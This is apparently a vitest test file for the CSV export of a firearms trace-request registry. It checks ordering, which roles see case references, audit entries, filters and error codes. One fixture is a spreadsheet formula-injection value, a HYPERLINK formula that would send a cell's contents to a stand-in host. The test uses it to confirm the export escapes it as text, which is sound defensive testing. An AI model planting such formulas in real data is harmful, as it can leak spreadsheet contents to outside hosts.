import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { AuditEntry } from '../../src/features/audit/schemas.ts'
import type { CallOptions } from '../support/service.ts'
import {
  AUDITOR,
  OFFICER,
  openSmallRegistry,
  OURS,
  REGISTRAR,
  type SmallRegistry,
  traceBody,
} from '../support/small-registry.ts'

const CUSTOMS: CallOptions = { role: 'customs' }
const REFERENCE = '=HYPERLINK("https://example.test/?"&A1)'

let registry: SmallRegistry
let found: string
let unknown: string
let customs: string

/** Asks for a serial that reads so. */
async function ask(serial: string, caseReference: string, call: CallOptions): Promise<string> {
  const markings = [{ kind: 'SERIAL_PRIMARY', text: serial }]
  const observation = { make: 'Glock', model: 'Glock 19', calibre: '9x19', markings }
  return (await registry.store('/v1/trace-requests', traceBody(observation, { caseReference }), call)).id
}

beforeAll(async () => {
  registry = await openSmallRegistry()
  const { serial } = await registry.registerWeapon(OURS)
  found = await ask(serial, REFERENCE, OFFICER)
  unknown = await ask('QRWX771', 'PJ-2025-0002', OFFICER)
  customs = await ask('QRWX988', 'DOUANES-1', CUSTOMS)
})
afterAll(() => registry.close())

async function lines(query: string, call: CallOptions): Promise<Record<string, string>[]> {
  const { status, text } = await registry.service.request(`/v1/trace-requests/export${query}`, call)
  expect(status).toBe(200)
  return parse(text, { columns: true, record_delimiter: '\r\n' })
}

describe('the export of trace requests', () => {
  it('has a line for each request of the asking agency, newest first, with its own case', async () => {
    const [second, first, ...others] = await lines('', OFFICER)
    expect(others).toEqual([])
    expect(second).toMatchObject({ id: unknown, status: 'ANSWERED_NO_RECORD', outcome: 'FAILED_NOT_FOUND', tier: '' })
    expect(first).toMatchObject({
      id: found,
      status: 'ANSWERED_FULL',
      priority: 'URGENT',
      purpose: 'CRIMINAL_INVESTIGATION',
      tier: 'T1',
      superseded: 'false',
      seizureItemId: '',
      countryOfRecovery: 'FR',
    })
    expect(first?.['answeredAt']).toMatch(/^\d{4}-\d{2}-\d{2}T[\d:.]+Z$/)
  })

  it('gives a case reference that would be a formula as text', async () => {
    const { text } = await registry.service.request('/v1/trace-requests/export', OFFICER)
    expect(text).toContain(`"'=HYPERLINK(""https://example.test/?""&A1)"\r\n`)
  })

  it.each([
    ['registrars', REGISTRAR],
    ['auditors', AUDITOR],
  ])('gives %s the requests of all, without their cases, and says so in the audit', async (_who, call) => {
    const all = await lines('', call)
    expect(all.map(({ id }) => id)).toEqual([customs, unknown, found])
    expect(all.map(({ caseReference }) => caseReference)).toEqual(['', '', ''])
    const { body } = await registry.service.request<{ entries: AuditEntry[] }>(
      '/v1/audit-entries?action=trace-request.export',
      AUDITOR,
    )
    expect(body.entries[0]).toMatchObject({ amount: 3, subjectIds: [customs, unknown, found] })
  })

  it.each([
    ['?status=ANSWERED_FULL', 1],
    ['?status=REFUSED', 0],
    ['?from=2020-01-01', 2],
    ['?to=2020-01-01', 0],
    ['?from=2199-01-01', 0],
  ])('filters as the list does: %s', async (query, count) => {
    expect(await lines(query, OFFICER)).toHaveLength(count)
  })

  it('is refused for a status or a day that does not exist, and to who may not read requests', async () => {
    const { status: wrong } = await registry.service.request(
      '/v1/trace-requests/export?status=LOST&from=2025-02-30',
      OFFICER,
    )
    const { status: foreign } = await registry.service.request('/v1/trace-requests/export', OURS)
    expect([wrong, foreign]).toEqual([400, 403])
  })
})
